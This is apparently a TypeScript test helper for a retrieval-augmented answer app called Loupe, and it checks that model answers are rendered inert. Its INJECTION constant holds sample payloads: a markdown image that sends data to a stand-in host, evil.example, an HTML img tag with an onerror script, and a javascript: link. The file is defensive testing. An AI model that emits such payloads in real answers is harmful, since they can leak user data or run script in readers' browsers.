/**
 * What "inert" means for an answer, shared by the neutralizer's unit tests and the end-to-end answer
 * tests: the injection text, and the checks no answer may fail.
 */
import { expect } from "vitest";
import { mediaRouteUrls } from "../../src/http/media-urls.ts";
import { ownMediaUrlTest } from "../../src/rag/output-guard.ts";

/** Loupe's own media URLs, as the app serves them. */
export const isOwnUrl = ownMediaUrlTest(mediaRouteUrls);

/** The text of the issue: an exfiltrating image, raw HTML and a script link. */
export const INJECTION =
  "![x](https://evil.example/leak?d=1) <img src=https://evil.example/p.gif onerror=alert(1)> [click](javascript:alert(1))";

/**
 * Fails unless `text` is inert: no markdown image, no HTML tag, no `javascript:`, no `scheme://`, and
 * (with `links`) every `[…](…)` goes to Loupe's own media. The link check is a regex reading of markdown
 * links, exact for hand-written cases; random text relies on idempotence instead, since a live link left
 * behind would be rewritten by a second pass.
 */
export function expectInert(text: string, { links = true }: { links?: boolean } = {}): void {
  expect(text).not.toContain("![");
  expect(text).not.toMatch(/<[A-Za-z/!?]/);
  expect(text.toLowerCase()).not.toContain("javascript:");
  expect(text.toLowerCase()).not.toContain("data:text");
  expect(text).not.toMatch(/[A-Za-z][A-Za-z0-9+.-]*:\/\//);
  if (!links) return;
  for (const match of text.matchAll(/\]\(\s*<?([^\s)>]*)[^)\n]*\)/g)) {
    expect(isOwnUrl(match[1] as string), `link to ${match[1]}`).toBe(true);
  }
}
